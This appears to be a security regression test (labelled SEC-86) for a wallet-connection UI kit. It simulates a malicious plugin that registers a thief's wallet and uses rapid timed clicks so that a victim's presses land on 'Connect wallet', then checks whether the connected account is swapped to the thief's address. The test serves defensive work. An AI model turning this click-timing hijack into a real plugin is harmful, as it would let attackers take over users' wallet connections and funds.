import { createElement } from 'react'
import { useView } from 'latchkey/ui'
import { page, settled, thief, until, viewer, walletOfOthers } from './world.mjs'

export const row = 'SEC-86'

const permissions = ['wallet:connect', 'wallet:connector']

/**
 * It may lead to where a chosen wallet is asked "once the visitor presses that there". It is a game in which the visitor presses again
 * and again, five times a second, and leads there in between: one of these presses lands on the button of the kit.
 */
export async function attack() {
  const View = () => {
    const view = useView()
    const lead = () => view.push({ id: 'ConnectingExternal' }, { connectorId: 'evil/wallet' })
    return createElement('button', { type: 'button', id: 'more', onClick: lead }, 'More')
  }
  const evil = viewer(View, { permissions, contributes: [walletOfOthers({ account: thief })] })
  const { kit, draw, environment } = await page({
    plugins: [evil],
    grants: { 'evil/plugin': permissions },
  })
  await draw()
  const root = () => document.querySelector('kit-modal')?.shadowRoot
  const called = (name) =>
    [...(root()?.querySelectorAll('button') ?? [])].find(({ textContent }) => textContent === name)
  await until(() => called('More'), 'its button')
  const before = kit.getAccount('eip155').address
  called('More').click()
  for (let press = 0; press < 6; press += 1) {
    await environment.clock.advance(200)
    await settled(5)
    called('Connect wallet')?.click()
  }
  await settled(60)
  const after = kit.getAccount('eip155').address
  return after === thief ? `${after} in the place of ${before}` : undefined
}
